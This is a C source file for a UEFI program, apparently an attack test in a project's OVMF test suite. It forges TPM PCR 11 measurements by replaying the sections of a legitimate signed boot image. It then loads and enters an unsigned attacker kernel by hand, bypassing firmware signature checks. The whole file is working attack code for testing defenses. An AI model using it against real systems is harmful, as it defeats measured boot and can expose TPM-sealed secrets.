/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attack 3: measures the sections of the owner's boot image into PCR 11 just as its stub would, then starts a kernel
 * and an initrd of the attacker's. \EFI\etcseal\etcseal.efi, \EFI\evil\vmlinuz, \EFI\evil\initrd. Where the firmware
 * won't load the kernel, since nobody signed it, this program does.
 */
#include "tests-ovmf/attack/efi/common.h"

enum { PCR_IMAGE = 11, EV_IPL = 13, NAMES = 10 };

static UINT32 le32(const UINT8 *p)
{
	return (UINT32)p[3] << 24 | (UINT32)p[2] << 16 | (UINT32)p[1] << 8 | p[0];
}

static EFI_STATUS extend(struct tcg2 *tcg2, const void *data, UINTN len)
{
	struct tcg2_event event = {
		.size = sizeof event, .header_size = 14, .version = 1, .pcr = PCR_IMAGE, .type = EV_IPL
	};

	return tcg2->hash_log_extend_event(tcg2, 0, (EFI_PHYSICAL_ADDRESS)(UINTN)data, len, &event);
}

static EFI_STATUS replay(struct tcg2 *tcg2, const UINT8 *file)
{
	static const char names[NAMES][9] = { ".linux",  ".osrel", ".cmdline", ".initrd", ".ucode",
					      ".splash", ".dtb",   ".uname",   ".sbat",   ".pcrpkey" };
	const UINT8 *pe = file + le32(file + 0x3c);
	const UINT8 *table = pe + 24 + (pe[20] | pe[21] << 8);
	UINTN sections = pe[6] | pe[7] << 8;
	EFI_STATUS status = EFI_SUCCESS;

	for (UINTN n = 0; n < NAMES; n++)
		for (UINTN i = 0; i < sections && !EFI_ERROR(status); i++) {
			const UINT8 *s = table + 40 * i;

			if (strncmpa((CHAR8 *)s, (CHAR8 *)names[n], 8) != 0 || le32(s + 8) == 0)
				continue;
			status = extend(tcg2, names[n], strlena((CHAR8 *)names[n]) + 1);
			if (!EFI_ERROR(status))
				status = extend(tcg2, file + le32(s + 20), le32(s + 8));
		}
	return status;
}

/* What a boot loader of its own does: the kernel's file laid out in memory, and entered as if the firmware had. */
static EFI_STATUS start_unchecked(EFI_HANDLE self, EFI_SYSTEM_TABLE *system)
{
	typedef EFI_STATUS(EFIAPI * entry_point)(EFI_HANDLE, EFI_SYSTEM_TABLE *);
	EFI_LOADED_IMAGE *own;
	EFI_PHYSICAL_ADDRESS base;
	UINTN len, pages;
	UINT8 *file = read_file(self, L"\\EFI\\evil\\vmlinuz", &len), *pe, *table;
	EFI_STATUS status;

	if (!file)
		return EFI_NOT_FOUND;
	pe = file + le32(file + 0x3c);
	table = pe + 24 + (pe[20] | pe[21] << 8);
	pages = EFI_SIZE_TO_PAGES((UINTN)le32(pe + 24 + 56));
	status = uefi_call_wrapper(BS->AllocatePages, 4, AllocateAnyPages, EfiLoaderCode, pages, &base);
	if (EFI_ERROR(status))
		return status;
	ZeroMem((void *)(UINTN)base, pages * EFI_PAGE_SIZE);
	CopyMem((void *)(UINTN)base, file, le32(pe + 24 + 60));
	for (UINTN i = 0; i < (UINTN)(pe[6] | pe[7] << 8); i++) {
		const UINT8 *s = table + 40 * i;

		CopyMem((UINT8 *)(UINTN)base + le32(s + 12), file + le32(s + 20), le32(s + 16));
	}
	uefi_call_wrapper(BS->HandleProtocol, 3, self, &LoadedImageProtocol, (void **)&own);
	own->LoadOptions = own_options;
	own->LoadOptionsSize = sizeof own_options;
	own->ImageBase = (void *)(UINTN)base;
	own->ImageSize = pages * EFI_PAGE_SIZE;
	return ((entry_point)(UINTN)(base + le32(pe + 24 + 16)))(self, system);
}

EFI_STATUS efi_main(EFI_HANDLE self, EFI_SYSTEM_TABLE *system)
{
	EFI_STATUS status;
	struct tcg2 *tcg2;
	UINTN len;
	UINT8 *file;

	InitializeLib(self, system);
	tcg2 = find_tcg2();
	file = read_file(self, L"\\EFI\\etcseal\\etcseal.efi", &len);
	if (!tcg2 || !file)
		return EFI_NOT_FOUND;
	status = replay(tcg2, file);
	Print(L"@@ replayed=%r\n", status);
	if (EFI_ERROR(status))
		return status;
	status = start_own_system(self);
	Print(L"@@ kernel-refused=%r\n", status);
	return start_unchecked(self, system);
}
